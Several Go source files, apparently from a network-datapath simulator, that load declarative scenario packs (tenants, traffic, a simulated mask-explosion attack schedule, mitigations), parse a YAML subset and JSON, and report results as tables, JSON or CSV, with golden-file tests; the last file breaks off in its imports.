		fmt.Fprintf(&sb, "  measure: mode=%s samples=%d\n", v.Measure.Mode, v.Measure.CostSamples)
		d := v.Datapath
		fmt.Fprintf(&sb, "  datapath: emc=%v smc=%v sort=%v staged=%v max_masks=%d conntrack=%v\n",
			d.EMC, d.SMC, d.SortByHits, d.StagedPruning, d.MaxMasks, d.Conntrack)
		switch {
		case v.Reval == nil:
			sb.WriteString("  revalidator: default\n")
		case v.Reval.Disabled:
			sb.WriteString("  revalidator: disabled\n")
		default:
			r := v.Reval
			fmt.Fprintf(&sb, "  revalidator: interval=%d workers=%d dump_rate=%g limit=%d..%d fixed=%v\n",
				r.Interval, r.Workers, r.DumpRate, r.MinFlowLimit, r.FlowLimit, r.FixedLimit)
		}
		fmt.Fprintf(&sb, "  victim: tenant=%s pod=%s flows=%d gbps=%g frame=%d stateful=%v\n",
			v.Victim.Tenant, v.Victim.Pod, v.Victim.Flows, v.Victim.Gbps, v.Victim.FrameLen,
			v.Victim.Policy != nil && v.Victim.Policy.Stateful)
		if v.Attack != nil {
			var names []string
			masks := 0
			if atk, err := v.Attack.Build(); err == nil {
				masks = atk.PredictedMasks()
				for _, f := range atk.Fields {
					names = append(names, f.Field.Name())
				}
			}
			stop := ""
			if v.Attack.Stop > 0 {
				stop = fmt.Sprintf(" stop=%d", v.Attack.Stop)
			}
			fmt.Fprintf(&sb, "  attack: start=%d%s fields=[%s] masks=%d\n", v.Attack.Start, stop, strings.Join(names, " "), masks)
		}
		for _, s := range v.Streams {
			fmt.Fprintf(&sb, "  stream %s: kind=%s to=%s flows=%d pps=%g start=%d\n",
				s.Name, s.Kind, s.To, s.Flows, s.PPS, s.Start)
		}
		for _, t := range v.Tenants {
			fmt.Fprintf(&sb, "  tenant %s: pod=%s policy=%v stream=%v\n", t.Name, t.Pod, t.Policy != nil, t.Stream != nil)
		}
		if v.Churn != nil {
			fmt.Fprintf(&sb, "  churn: period=%d start=%d rotate=%d\n", v.Churn.Period, v.Churn.Start, v.Churn.Rotate)
		}
		if v.Guards != nil {
			g := v.Guards
			fmt.Fprintf(&sb, "  guards: killswitch=%v admission=%v mask_quota=%v\n",
				g.KillSwitch != nil, g.Admission != nil, g.MaskQuota != nil)
		}
		for _, f := range v.Faults {
			fmt.Fprintf(&sb, "  fault %s: start=%d stop=%d prob=%g delay=%d factor=%g\n",
				f.Kind, f.Start, f.Stop, f.Prob, f.Delay, f.Factor)
		}
		if v.Matrix != nil {
			fmt.Fprintf(&sb, "  matrix: samples=%d variants=[%s]\n", v.Matrix.Samples, strings.Join(v.Matrix.Variants, " "))
		}
	}
	for _, e := range p.Expect {
		v := e.Variant
		if v == "" {
			v = "*"
		}
		fmt.Fprintf(&sb, "expect %s: %s %s %g (tol %g)\n", v, e.Metric, e.Op, e.Value, e.Tolerance)
	}
	return sb.String()
}
