package scenario

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strings"

	"policyinject/internal/metrics"
	"policyinject/internal/mitigation"
)

// Reporter renders one Result to a writer. The three stock formats —
// human table, JSON, CSV — all draw from the same Result, so their
// numbers are mutually consistent by construction (the reporter tests
// pin this).
type Reporter interface {
	// Name is the format name ("human", "json", "csv"); it doubles as the
	// output file extension for -o directories.
	Name() string
	Report(w io.Writer, res *Result) error
}

// NewReporter resolves a format name.
func NewReporter(format string) (Reporter, error) {
	switch format {
	case "", "human":
		return HumanReporter{}, nil
	case "json":
		return JSONReporter{}, nil
	case "csv":
		return CSVReporter{}, nil
	}
	return nil, fmt.Errorf("unknown report format %q (have human, json, csv)", format)
}

// summaryKeys returns the run's summary metric names, sorted.
func summaryKeys(run *VariantRun) []string {
	keys := make([]string, 0, len(run.Summary))
	for k := range run.Summary {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// ---------------------------------------------------------------------------
// JSON

// JSONReporter emits the canonical machine-readable report. Output is
// deterministic for a deterministic Result: encoding/json sorts map keys
// and float formatting is stable, so same pack + seed (measure: off)
// means byte-identical bytes.
type JSONReporter struct{}

// Name implements Reporter.
func (JSONReporter) Name() string { return "json" }

type jsonReport struct {
	Pack   string      `json:"pack"`
	File   string      `json:"file"`
	Mode   string      `json:"mode"`
	Seed   uint64      `json:"seed"`
	Runs   []jsonRun   `json:"runs"`
	Checks []jsonCheck `json:"checks,omitempty"`
	Passed bool        `json:"passed"`
}

type jsonRun struct {
	Variant  string             `json:"variant"`
	Summary  map[string]float64 `json:"summary"`
	Series   []jsonSeries       `json:"series,omitempty"`
	Outcomes []jsonOutcome      `json:"outcomes,omitempty"`
}

type jsonSeries struct {
	Name string    `json:"name"`
	T    []float64 `json:"t"`
	V    []float64 `json:"v"`
}

type jsonOutcome struct {
	Name      string  `json:"name"`
	Masks     int     `json:"masks"`
	NsBefore  int64   `json:"ns_before"`
	NsAfter   int64   `json:"ns_after"`
	Slowdown  float64 `json:"slowdown"`
	AvgScan   float64 `json:"avg_scan"`
	FlowLimit int     `json:"flow_limit"`
}

type jsonCheck struct {
	Variant   string  `json:"variant,omitempty"`
	Metric    string  `json:"metric"`
	Op        string  `json:"op"`
	Value     float64 `json:"value"`
	Tolerance float64 `json:"tolerance,omitempty"`
	Got       float64 `json:"got"`
	Pass      bool    `json:"pass"`
	Missing   bool    `json:"missing,omitempty"`
}

// Report implements Reporter.
func (JSONReporter) Report(w io.Writer, res *Result) error {
	doc := jsonReport{
		Pack: res.Pack, File: res.File, Mode: res.Mode, Seed: res.Seed,
		Passed: res.Passed(),
	}
	for _, run := range res.Runs {
		jr := jsonRun{Variant: run.Variant, Summary: run.Summary}
		if run.Timeline != nil {
			for _, s := range run.Timeline.All() {
				jr.Series = append(jr.Series, jsonSeries{Name: s.Name, T: s.T, V: s.V})
			}
		}
		for _, o := range run.Outcomes {
			jr.Outcomes = append(jr.Outcomes, jsonOutcome{
				Name: o.Name, Masks: o.Masks,
				NsBefore: o.CostBefore.Nanoseconds(), NsAfter: o.CostAfter.Nanoseconds(),
				Slowdown: o.Slowdown, AvgScan: o.AvgScan, FlowLimit: o.FlowLimit,
			})
		}
		doc.Runs = append(doc.Runs, jr)
	}
	for _, c := range res.Checks {
		doc.Checks = append(doc.Checks, jsonCheck{
			Variant: c.Variant, Metric: c.Metric, Op: c.Op,
			Value: c.Value, Tolerance: c.Tolerance,
			Got: c.Got, Pass: c.Pass, Missing: c.Missing,
		})
	}
	data, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	_, err = w.Write(data)
	return err
}

// ---------------------------------------------------------------------------
// CSV

// CSVReporter emits flat machine-readable blocks: a
// pack,variant,metric,value summary block, one timeline block per
// timeline run (metrics.CSV columns), and an outcome table per matrix
// run. Blocks are separated by blank lines and introduced by a # header.
type CSVReporter struct{}

// Name implements Reporter.
func (CSVReporter) Name() string { return "csv" }

// Report implements Reporter.
func (CSVReporter) Report(w io.Writer, res *Result) error {
	var b strings.Builder
	fmt.Fprintf(&b, "# pack %s summary\n", res.Pack)
	b.WriteString("pack,variant,metric,value\n")
	for _, run := range res.Runs {
		for _, k := range summaryKeys(run) {
			fmt.Fprintf(&b, "%s,%s,%s,%g\n", res.Pack, run.Variant, k, run.Summary[k])
		}
	}
	for _, c := range res.Checks {
		pass := "pass"
		if !c.Pass {
			pass = "fail"
		}
		fmt.Fprintf(&b, "%s,%s,check:%s %s %g,%s\n", res.Pack, c.Variant, c.Metric, c.Op, c.Value, pass)
	}
	for _, run := range res.Runs {
		if run.Timeline != nil {
			fmt.Fprintf(&b, "\n# pack %s variant %s timeline\n", res.Pack, run.Variant)
			b.WriteString(run.Timeline.CSV())
		}
		if len(run.Outcomes) > 0 {
			fmt.Fprintf(&b, "\n# pack %s variant %s outcomes\n", res.Pack, run.Variant)
			b.WriteString("mitigation,masks,ns_before,ns_after,slowdown,avg_scan,flow_limit\n")
			for _, o := range run.Outcomes {
				fmt.Fprintf(&b, "%s,%d,%d,%d,%g,%g,%d\n",
					o.Name, o.Masks, o.CostBefore.Nanoseconds(), o.CostAfter.Nanoseconds(),
					o.Slowdown, o.AvgScan, o.FlowLimit)
			}
		}
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// ---------------------------------------------------------------------------
// Human

// HumanReporter renders a terminal-friendly report: the summary metrics
// per variant, the evaluated expectations, a downsampled timeline table
// and the matrix outcome table.
type HumanReporter struct{}

// Name implements Reporter.
func (HumanReporter) Name() string { return "human" }

// Report implements Reporter.
func (HumanReporter) Report(w io.Writer, res *Result) error {
	var b strings.Builder
	fmt.Fprintf(&b, "pack %s (%s, seed %d)\n", res.Pack, res.Mode, res.Seed)
	for _, run := range res.Runs {
		fmt.Fprintf(&b, "\nvariant %s\n", run.Variant)
		tbl := &metrics.Table{Header: []string{"metric", "value"}}
		for _, k := range summaryKeys(run) {
			tbl.AddRow(k, run.Summary[k])
		}
		if len(tbl.Rows) > 0 && len(run.Outcomes) == 0 {
			b.WriteString(indent(tbl.String()))
		}
		if run.Timeline != nil {
			b.WriteString(indent(timelineTable(run.Timeline)))
		}
		if len(run.Outcomes) > 0 {
			b.WriteString(indent(mitigation.Table(run.Outcomes).String()))
		}
	}
	if len(res.Checks) > 0 {
		b.WriteString("\nexpectations:\n")
		for _, c := range res.Checks {
			fmt.Fprintf(&b, "  %s\n", c.String())
		}
	}
	verdict := "PASS"
	if !res.Passed() {
		verdict = "FAIL"
	}
	fmt.Fprintf(&b, "\nresult: %s\n", verdict)
	_, err := io.WriteString(w, b.String())
	return err
}

// timelineTable renders a downsampled view of the run's series: at most
// ~20 rows, every series as a column.
func timelineTable(tl *metrics.Group) string {
	series := tl.All()
	if len(series) == 0 {
		return ""
	}
	n := series[0].Len()
	step := n / 20
	if step < 1 {
		step = 1
	}
	hdr := []string{"t"}
	for _, s := range series {
		hdr = append(hdr, s.Name)
	}
	tbl := &metrics.Table{Header: hdr}
	for i := 0; i < n; i += step {
		row := make([]any, 0, len(series)+1)
		row = append(row, series[0].T[i])
		for _, s := range series {
			if i < s.Len() {
				row = append(row, s.V[i])
			} else {
				row = append(row, "")
			}
		}
		tbl.AddRow(row...)
	}
	return tbl.String()
}

func indent(s string) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = "  " + l
	}
	return strings.Join(lines, "\n") + "\n"
}
