// Package scenario is the declarative scenario-pack subsystem: a pack is
// a small YAML/JSON file declaring tenants, policies, traffic mixes, an
// attack schedule, datapath/mitigation variants, a seed and
// expected-metric assertions; the runner compiles a pack onto the
// existing sim/traffic/attack/mitigation machinery and executes it
// deterministically; pluggable reporters (human table, JSON, CSV) render
// a common Result. cmd/scenario is the CLI; cmd/figures runs its
// fig3/flowlimit/mitigation presets through the same path.
//
// The split — runners vs reporters vs output formats, packs as data — is
// modelled on elastic-package's benchrunner (see ROADMAP item 2).
package scenario

import (
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
)

// nodeKind discriminates the parsed document tree.
type nodeKind uint8

const (
	scalarNode nodeKind = iota
	mapNode
	seqNode
)

// node is one vertex of a parsed pack document. Both the YAML-subset
// parser and the JSON tokenizer produce this tree, so binding and error
// reporting (file:line: path: message) are format-agnostic.
type node struct {
	kind   nodeKind
	line   int
	scalar string // scalarNode: raw text, unquoted
	quoted bool   // scalarNode: was a quoted string literal
	keys   []string
	fields map[string]*node // mapNode, keyed in keys order
	items  []*node          // seqNode
}

func (n *node) kindName() string {
	switch n.kind {
	case mapNode:
		return "mapping"
	case seqNode:
		return "sequence"
	default:
		return "scalar"
	}
}

// mergeNodes overlays b onto a: maps merge recursively (b's keys win),
// anything else is replaced by b. Neither input is mutated. This is how a
// pack variant overlay produces its effective document.
func mergeNodes(a, b *node) *node {
	if a == nil {
		return b
	}
	if b == nil {
		return a
	}
	if a.kind != mapNode || b.kind != mapNode {
		return b
	}
	out := &node{kind: mapNode, line: a.line, fields: map[string]*node{}}
	for _, k := range a.keys {
		out.keys = append(out.keys, k)
		out.fields[k] = a.fields[k]
	}
	for _, k := range b.keys {
		if prev, ok := out.fields[k]; ok {
			out.fields[k] = mergeNodes(prev, b.fields[k])
		} else {
			out.keys = append(out.keys, k)
			out.fields[k] = b.fields[k]
		}
	}
	return out
}

// ---------------------------------------------------------------------------
// YAML subset parser.
//
// The subset covers what packs need and nothing else: nested mappings by
// two-space indentation, block sequences ("- item", including "- key: v"
// inline-mapping items), inline sequences ("[a, b]"), quoted and plain
// scalars, comments, blank lines. No anchors, no multi-document streams,
// no multi-line scalars, no tabs.

type yamlLine struct {
	indent  int
	text    string // content with indentation stripped
	lineNum int    // 1-based
}

type yamlParser struct {
	file  string
	lines []yamlLine
	pos   int
}

func parseYAML(file string, data []byte) (*node, error) {
	p := &yamlParser{file: file}
	for i, raw := range strings.Split(string(data), "\n") {
		lineNum := i + 1
		content := stripComment(raw)
		trimmed := strings.TrimRight(content, " \r")
		if strings.TrimSpace(trimmed) == "" {
			continue
		}
		indent := 0
		for indent < len(trimmed) && trimmed[indent] == ' ' {
			indent++
		}
		if strings.HasPrefix(trimmed[indent:], "\t") || strings.Contains(trimmed[:indent], "\t") {
			return nil, fmt.Errorf("%s:%d: tab in indentation (use spaces)", file, lineNum)
		}
		p.lines = append(p.lines, yamlLine{indent: indent, text: trimmed[indent:], lineNum: lineNum})
	}
	if len(p.lines) == 0 {
		return nil, fmt.Errorf("%s: empty document", file)
	}
	n, err := p.parseBlock(p.lines[0].indent)
	if err != nil {
		return nil, err
	}
	if p.pos < len(p.lines) {
		l := p.lines[p.pos]
		return nil, fmt.Errorf("%s:%d: unexpected de-indented content %q", file, l.lineNum, l.text)
	}
	return n, nil
}

// stripComment removes a trailing "# ..." comment, respecting quotes.
func stripComment(s string) string {
	inSingle, inDouble := false, false
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\'':
			if !inDouble {
				inSingle = !inSingle
			}
		case '"':
			if !inSingle {
				inDouble = !inDouble
			}
		case '#':
			if !inSingle && !inDouble && (i == 0 || s[i-1] == ' ' || s[i-1] == '\t') {
				return s[:i]
			}
		}
	}
	return s
}

// parseBlock parses the run of lines at exactly indent, returning a map or
// sequence node (a lone scalar line yields a scalar node).
func (p *yamlParser) parseBlock(indent int) (*node, error) {
	first := p.lines[p.pos]
	if strings.HasPrefix(first.text, "- ") || first.text == "-" {
		return p.parseSeq(indent)
	}
	return p.parseMap(indent)
}

func (p *yamlParser) parseMap(indent int) (*node, error) {
	out := &node{kind: mapNode, line: p.lines[p.pos].lineNum, fields: map[string]*node{}}
	for p.pos < len(p.lines) {
		l := p.lines[p.pos]
		if l.indent < indent {
			break
		}
		if l.indent > indent {
			return nil, fmt.Errorf("%s:%d: unexpected indentation", p.file, l.lineNum)
		}
		if strings.HasPrefix(l.text, "- ") || l.text == "-" {
			return nil, fmt.Errorf("%s:%d: sequence item in mapping context", p.file, l.lineNum)
		}
		key, rest, err := splitKey(p.file, l)
		if err != nil {
			return nil, err
		}
		if _, dup := out.fields[key]; dup {
			return nil, fmt.Errorf("%s:%d: duplicate key %q", p.file, l.lineNum, key)
		}
		p.pos++
		var child *node
		if rest != "" {
			child, err = parseFlowScalar(p.file, l.lineNum, rest)
			if err != nil {
				return nil, err
			}
		} else {
			// Nested block, or an empty value.
			if p.pos < len(p.lines) && p.lines[p.pos].indent > indent {
				child, err = p.parseBlock(p.lines[p.pos].indent)
				if err != nil {
					return nil, err
				}
			} else {
				child = &node{kind: scalarNode, line: l.lineNum, scalar: ""}
			}
		}
		out.keys = append(out.keys, key)
		out.fields[key] = child
	}
	return out, nil
}

func (p *yamlParser) parseSeq(indent int) (*node, error) {
	out := &node{kind: seqNode, line: p.lines[p.pos].lineNum}
	for p.pos < len(p.lines) {
		l := p.lines[p.pos]
		if l.indent != indent || (!strings.HasPrefix(l.text, "- ") && l.text != "-") {
			break
		}
		rest := strings.TrimSpace(strings.TrimPrefix(l.text, "-"))
		if rest == "" {
			// "-" alone: the item is the nested block on following lines.
			p.pos++
			if p.pos >= len(p.lines) || p.lines[p.pos].indent <= indent {
				return nil, fmt.Errorf("%s:%d: empty sequence item", p.file, l.lineNum)
			}
			item, err := p.parseBlock(p.lines[p.pos].indent)
			if err != nil {
				return nil, err
			}
			out.items = append(out.items, item)
			continue
		}
		if k, _, err := splitKey(p.file, yamlLine{text: rest, lineNum: l.lineNum}); err == nil && k != "" {
			// "- key: value": an inline mapping item. Rewrite the line as the
			// first pair of a map indented past the dash and parse the map.
			p.lines[p.pos] = yamlLine{indent: indent + 2, text: rest, lineNum: l.lineNum}
			item, err := p.parseMap(indent + 2)
			if err != nil {
				return nil, err
			}
			out.items = append(out.items, item)
			continue
		}
		// Plain scalar item.
		item, err := parseFlowScalar(p.file, l.lineNum, rest)
		if err != nil {
			return nil, err
		}
		out.items = append(out.items, item)
		p.pos++
	}
	return out, nil
}

// splitKey splits "key: value" / "key:"; the key must be a bare word (no
// quotes, no colon), which every pack schema key is.
func splitKey(file string, l yamlLine) (key, rest string, err error) {
	i := strings.Index(l.text, ":")
	if i <= 0 {
		return "", "", fmt.Errorf("%s:%d: expected \"key: value\", got %q", file, l.lineNum, l.text)
	}
	key = strings.TrimSpace(l.text[:i])
	rest = strings.TrimSpace(l.text[i+1:])
	if key == "" || strings.ContainsAny(key, " \"'[]{},") {
		return "", "", fmt.Errorf("%s:%d: invalid key %q", file, l.lineNum, key)
	}
	if i+1 < len(l.text) && l.text[i+1] != ' ' {
		return "", "", fmt.Errorf("%s:%d: missing space after %q:", file, l.lineNum, key)
	}
	return key, rest, nil
}

// parseFlowScalar parses an inline value: "[a, b, c]" or a scalar.
func parseFlowScalar(file string, lineNum int, s string) (*node, error) {
	if strings.HasPrefix(s, "[") {
		if !strings.HasSuffix(s, "]") {
			return nil, fmt.Errorf("%s:%d: unterminated inline sequence %q", file, lineNum, s)
		}
		out := &node{kind: seqNode, line: lineNum}
		inner := strings.TrimSpace(s[1 : len(s)-1])
		if inner == "" {
			return out, nil
		}
		for _, part := range strings.Split(inner, ",") {
			item, err := parseFlowScalar(file, lineNum, strings.TrimSpace(part))
			if err != nil {
				return nil, err
			}
			out.items = append(out.items, item)
		}
		return out, nil
	}
	if strings.HasPrefix(s, "{") {
		return nil, fmt.Errorf("%s:%d: inline mappings are not supported; use block form", file, lineNum)
	}
	n := &node{kind: scalarNode, line: lineNum, scalar: s}
	if len(s) >= 2 {
		if (s[0] == '"' && s[len(s)-1] == '"') || (s[0] == '\'' && s[len(s)-1] == '\'') {
			n.scalar = s[1 : len(s)-1]
			n.quoted = true
		}
	}
	return n, nil
}

// ---------------------------------------------------------------------------
// JSON front end: the same node tree via encoding/json's tokenizer, with
// line numbers recovered from byte offsets.

func parseJSON(file string, data []byte) (*node, error) {
	dec := json.NewDecoder(strings.NewReader(string(data)))
	dec.UseNumber()
	lineAt := lineIndex(data)
	root, err := jsonValue(dec, file, lineAt)
	if err != nil {
		return nil, err
	}
	if dec.More() {
		return nil, fmt.Errorf("%s:%d: trailing content after document", file, lineAt(dec.InputOffset()))
	}
	return root, nil
}

// lineIndex returns offset→1-based-line for data.
func lineIndex(data []byte) func(int64) int {
	var starts []int64
	starts = append(starts, 0)
	for i, b := range data {
		if b == '\n' {
			starts = append(starts, int64(i+1))
		}
	}
	return func(off int64) int {
		lo, hi := 0, len(starts)-1
		for lo < hi {
			mid := (lo + hi + 1) / 2
			if starts[mid] <= off {
				lo = mid
			} else {
				hi = mid - 1
			}
		}
		return lo + 1
	}
}

func jsonValue(dec *json.Decoder, file string, lineAt func(int64) int) (*node, error) {
	tok, err := dec.Token()
	if err != nil {
		return nil, fmt.Errorf("%s:%d: %v", file, lineAt(dec.InputOffset()), err)
	}
	line := lineAt(dec.InputOffset())
	switch t := tok.(type) {
	case json.Delim:
		switch t {
		case '{':
			out := &node{kind: mapNode, line: line, fields: map[string]*node{}}
			for dec.More() {
				keyTok, err := dec.Token()
				if err != nil {
					return nil, fmt.Errorf("%s:%d: %v", file, lineAt(dec.InputOffset()), err)
				}
				key, ok := keyTok.(string)
				if !ok {
					return nil, fmt.Errorf("%s:%d: object key is not a string", file, lineAt(dec.InputOffset()))
				}
				if _, dup := out.fields[key]; dup {
					return nil, fmt.Errorf("%s:%d: duplicate key %q", file, lineAt(dec.InputOffset()), key)
				}
				val, err := jsonValue(dec, file, lineAt)
				if err != nil {
					return nil, err
				}
				out.keys = append(out.keys, key)
				out.fields[key] = val
			}
			if _, err := dec.Token(); err != nil { // consume '}'
				return nil, fmt.Errorf("%s:%d: %v", file, lineAt(dec.InputOffset()), err)
			}
			return out, nil
		case '[':
			out := &node{kind: seqNode, line: line}
			for dec.More() {
				item, err := jsonValue(dec, file, lineAt)
				if err != nil {
					return nil, err
				}
				out.items = append(out.items, item)
			}
			if _, err := dec.Token(); err != nil { // consume ']'
				return nil, fmt.Errorf("%s:%d: %v", file, lineAt(dec.InputOffset()), err)
			}
			return out, nil
		}
		return nil, fmt.Errorf("%s:%d: unexpected delimiter %v", file, line, t)
	case string:
		return &node{kind: scalarNode, line: line, scalar: t, quoted: true}, nil
	case json.Number:
		return &node{kind: scalarNode, line: line, scalar: t.String()}, nil
	case bool:
		return &node{kind: scalarNode, line: line, scalar: strconv.FormatBool(t)}, nil
	case nil:
		return &node{kind: scalarNode, line: line, scalar: ""}, nil
	}
	return nil, fmt.Errorf("%s:%d: unexpected token %v", file, line, tok)
}
