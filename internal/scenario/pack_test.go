package scenario_test

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"policyinject/internal/scenario"
	"policyinject/scenarios"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// TestCorpusGolden loads every starter pack from the embedded corpus and
// pins its bound shape (Describe) against a golden file. -update rewrites.
func TestCorpusGolden(t *testing.T) {
	files, err := scenario.DiscoverFS(scenarios.FS)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) < 10 {
		t.Fatalf("embedded corpus holds %d packs, want >= 10", len(files))
	}
	for _, f := range files {
		p, err := scenario.LoadFS(scenarios.FS, f)
		if err != nil {
			t.Fatalf("load %s: %v", f, err)
		}
		got := p.Describe()
		golden := filepath.Join("testdata", "golden", strings.TrimSuffix(f, filepath.Ext(f))+".golden")
		if *update {
			if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatalf("%s: %v (regenerate with go test -run Golden -update)", golden, err)
		}
		if got != string(want) {
			t.Errorf("%s: bound pack diverges from golden file\n--- got ---\n%s--- want ---\n%s", f, got, want)
		}
	}
}

// TestRejectBadPacks proves broken pack files fail to load with a
// file:line: path-qualified message.
func TestRejectBadPacks(t *testing.T) {
	cases := map[string]string{
		"unknown-key.yaml":      `unknown-key.yaml:2: durration: unknown key "durration"`,
		"unknown-key.json":      `unknown-key.json:3: durration: unknown key "durration"`,
		"bad-op.yaml":           `bad-op.yaml:3: expect[0].op: must be one of ==, !=, <, <=, >, >=; got "~="`,
		"bad-prefix.yaml":       `bad-prefix.yaml:5: victim.policy.entries[0].src: expected a CIDR prefix, got "10.0.0.0=24"`,
		"bad-proto.yaml":        `bad-proto.yaml:6: victim.policy.entries[0].proto: expected tcp, udp, icmp or a protocol number, got "sctp"`,
		"dup-key.yaml":          `dup-key.yaml:2: duplicate key "name"`,
		"dup-variant.yaml":      `dup-variant.yaml:4: variants[1].name: duplicate variant "a"`,
		"inline-map.yaml":       `inline-map.yaml:2: inline mappings are not supported; use block form`,
		"matrix-no-attack.yaml": `matrix-no-attack.yaml:1: attack: mode "matrix" requires an attack section`,
		"preset-conflict.yaml":  `preset-conflict.yaml:3: attack: attack: preset and fields are mutually exclusive`,
	}
	for file, want := range cases {
		_, err := scenario.Load(filepath.Join("testdata", "bad", file))
		if err == nil {
			t.Errorf("%s: loaded without error, want %q", file, want)
			continue
		}
		if !strings.Contains(err.Error(), want) {
			t.Errorf("%s:\n  got  %v\n  want substring %q", file, err, want)
		}
	}
}

// TestVariantOverlay proves a variant overlay merges over the base
// document rather than replacing whole sections.
func TestVariantOverlay(t *testing.T) {
	const doc = `name: overlay
duration: 10
revalidator:
  interval: 4
  dump_rate: 16
variants:
  - name: base
  - name: fixed
    revalidator:
      fixed_limit: true
`
	p, err := scenario.LoadBytes("overlay.yaml", []byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Variants) != 2 {
		t.Fatalf("got %d variants, want 2", len(p.Variants))
	}
	fixed := p.Variants[1]
	if fixed.Variant != "fixed" || fixed.Reval == nil {
		t.Fatalf("variant %q reval %+v", fixed.Variant, fixed.Reval)
	}
	// The overlay sets fixed_limit but must keep the base's interval and
	// dump_rate.
	if !fixed.Reval.FixedLimit || fixed.Reval.Interval != 4 || fixed.Reval.DumpRate != 16 {
		t.Fatalf("overlay lost base revalidator fields: %+v", fixed.Reval)
	}
	if base := p.Variants[0]; base.Reval.FixedLimit {
		t.Fatal("overlay leaked into the base variant")
	}
}
