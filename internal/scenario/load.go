// Package scenario is the declarative experiment layer of the repo: a
// *pack* is a small YAML or JSON file declaring the whole scenario —
// datapath variant, tenants and policies, traffic mixes, the attack
// schedule, expected-metric assertions — which the runner compiles onto
// the existing sim/traffic/attack/mitigation machinery and executes
// deterministically. Reporters (human, JSON, CSV) render the common
// Result type. The split — runner vs reporters vs packs-as-data — means
// new scenarios are data files, not simulator edits.
//
//lint:deterministic
package scenario

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// Load reads one pack file (.yaml, .yml or .json) from the filesystem.
func Load(path string) (*Pack, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	return LoadBytes(path, data)
}

// LoadFS reads one pack file from an fs.FS (e.g. the embedded corpus).
func LoadFS(fsys fs.FS, path string) (*Pack, error) {
	data, err := fs.ReadFile(fsys, path)
	if err != nil {
		return nil, err
	}
	return LoadBytes(path, data)
}

// LoadBytes parses and binds a pack document. The format follows the
// file extension: .json parses as JSON, anything else as YAML. Errors
// are file:line: path qualified.
func LoadBytes(file string, data []byte) (*Pack, error) {
	var (
		root *node
		err  error
	)
	if strings.EqualFold(filepath.Ext(file), ".json") {
		root, err = parseJSON(file, data)
	} else {
		root, err = parseYAML(file, data)
	}
	if err != nil {
		return nil, err
	}
	b := &binder{file: file}
	base, err := b.bindPack(root)
	if err != nil {
		return nil, err
	}
	variants, err := b.bindVariants(root, base)
	if err != nil {
		return nil, err
	}
	base.Variants = variants
	return base, nil
}

// bindVariants extracts the variants sequence and binds one effective
// pack per entry: the base document with the variant's overlay merged on
// top. A pack without variants gets one implicit "default" variant (the
// base itself).
func (b *binder) bindVariants(root *node, base *Pack) (variants []*Pack, err error) {
	defer func() {
		if r := recover(); r != nil {
			be, ok := r.(bindError)
			if !ok {
				panic(r)
			}
			variants, err = nil, be.err
		}
	}()
	vn := root.fields["variants"]
	if vn == nil {
		v := *base
		v.Variants, v.Variant = nil, "default"
		return []*Pack{&v}, nil
	}
	if vn.kind != seqNode {
		b.failf(vn, "variants", "expected a sequence, got a %s", vn.kindName())
	}
	seen := map[string]bool{}
	for i, item := range vn.items {
		path := fmt.Sprintf("variants[%d]", i)
		if item.kind != mapNode {
			b.failf(item, path, "expected a mapping, got a %s", item.kindName())
		}
		nameNode := item.fields["name"]
		if nameNode == nil || nameNode.kind != scalarNode || nameNode.scalar == "" {
			b.failf(item, path+".name", "required")
		}
		name := nameNode.scalar
		if seen[name] {
			b.failf(nameNode, path+".name", "duplicate variant %q", name)
		}
		seen[name] = true

		// The overlay is the variant mapping without its name key.
		overlay := &node{kind: mapNode, line: item.line, fields: map[string]*node{}}
		for _, k := range item.keys {
			if k == "name" {
				continue
			}
			overlay.keys = append(overlay.keys, k)
			overlay.fields[k] = item.fields[k]
		}
		merged := mergeNodes(root, overlay)
		delete(merged.fields, "variants")
		for j, k := range merged.keys {
			if k == "variants" {
				merged.keys = append(merged.keys[:j], merged.keys[j+1:]...)
				break
			}
		}
		vp, err := b.bindPack(merged)
		if err != nil {
			return nil, fmt.Errorf("%s (in variant %q)", err, name)
		}
		vp.Variant = name
		variants = append(variants, vp)
	}
	return variants, nil
}

// packExts are the extensions Discover treats as pack files.
func isPackFile(name string) bool {
	switch strings.ToLower(filepath.Ext(name)) {
	case ".yaml", ".yml", ".json":
		return true
	}
	return false
}

// Discover resolves pack file paths from CLI arguments: a file names
// itself, a directory lists its immediate pack files, and the Go-style
// "dir/..." suffix walks the tree. Results are sorted.
func Discover(args []string) ([]string, error) {
	var out []string
	for _, arg := range args {
		recursive := false
		if strings.HasSuffix(arg, "/...") {
			recursive = true
			arg = strings.TrimSuffix(arg, "/...")
		}
		info, err := os.Stat(arg)
		if err != nil {
			return nil, err
		}
		switch {
		case !info.IsDir():
			out = append(out, arg)
		case recursive:
			err := filepath.WalkDir(arg, func(path string, d fs.DirEntry, err error) error {
				if err != nil {
					return err
				}
				if !d.IsDir() && isPackFile(path) {
					out = append(out, path)
				}
				return nil
			})
			if err != nil {
				return nil, err
			}
		default:
			entries, err := os.ReadDir(arg)
			if err != nil {
				return nil, err
			}
			for _, e := range entries {
				if !e.IsDir() && isPackFile(e.Name()) {
					out = append(out, filepath.Join(arg, e.Name()))
				}
			}
		}
	}
	sort.Strings(out)
	return out, nil
}

// DiscoverFS lists every pack file in an fs.FS, sorted — the embedded
// corpus walk.
func DiscoverFS(fsys fs.FS) ([]string, error) {
	var out []string
	err := fs.WalkDir(fsys, ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() && isPackFile(path) {
			out = append(out, path)
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	sort.Strings(out)
	return out, nil
}
