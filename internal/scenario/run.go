package scenario

import (
	"bytes"
